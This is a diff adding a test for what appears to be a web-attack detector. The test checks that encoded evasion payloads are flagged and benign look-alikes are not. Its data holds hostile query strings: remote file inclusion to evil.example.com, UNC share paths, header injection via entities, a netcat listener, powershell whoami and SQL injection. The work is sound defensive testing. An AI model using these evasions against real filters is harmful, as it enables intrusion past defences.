@@ -102,3 +102,44 @@ def test_body_past_the_capture_is_not_clean(cgi1):
     assert record_for(h, "m=marker2") is not None
     assert not _records_with(h, "t=bigupload")
     assert not _records_with(h, "t=shortform")
+
+
+# (marker, query after "?m=MARKER&"): attacks that a rule or detector
+# flags sent plainly, and each in a form that was clean before the engine
+# read it: one more encoding layer than the attack needs (its raw rule now
+# reads the value's decoding stages), a ';' part of another parameter
+# (read by every rule), tabs for spaces (the detectors' gates).
+QUERY_EVASIONS = [
+    ("pctu", "id=" + "".join("%%u%04x" % ord(c)
+                             for c in "http://evil.example.com/a.txt%00")),
+    ("nulbtw", "id=" + "".join("%%%02X%%00" % ord(c)
+                               for c in "\\\\198.51.100.9\\share\\x.php")),
+    ("dbl", "id=%255C%255C198.51.100.9%255Cshare%255Cx.php"),
+    ("ent", "id=x%26%23x40%3Bexample%26%23x2e%3Bcom%26%23x25%3B0ATo"
+            "%26%23x3a%3B%26%23x25%3B20other%26%23x40%3Bexample.org"),
+    ("semi", "a=1;id=.htaccess"),
+    ("semi2", "a=1;id=sleep%2010"),
+    ("tab", "id=powershell%09whoami"),
+    ("tab2", "id=nc%09-lvp%094444"),
+]
+QUERY_BENIGN = [
+    ("bsemi", "q=hello;world&style=color:red;font-size:12px"),
+    ("btab", "q=name%09-%09O%27Brien%09score%091"),
+    ("bdbl", "u=https%253A%252F%252Fexample.com%252Fa%253Fb%253Dc"),
+    ("bent", "q=Fish+%26amp%3B+Chips%2C+caf%26%23xe9%3B"),
+]
+
+
+def test_query_evasions_live(cgi1):
+    """The query-side evasions on the live module: each is recorded;
+    benign look-alikes (';' lists, a pasted table row with tabs, a
+    redirect URL encoded twice, entities in text) are not."""
+    h = cgi1
+    for marker, q in QUERY_EVASIONS + QUERY_BENIGN:
+        h.get("/index.html?m=%s&%s" % (marker, q), user_agent=UA)
+    h.get("/index.html?m=marker3&id=1%27+union+select+1--", user_agent=UA)
+    assert record_for(h, "m=marker3") is not None
+    for marker, _ in QUERY_EVASIONS:
+        assert _records_with(h, "m=%s&" % marker), "%s: clean" % marker
+    for marker, _ in QUERY_BENIGN:
+        assert not _records_with(h, "m=%s&" % marker), "%s: flagged" % marker
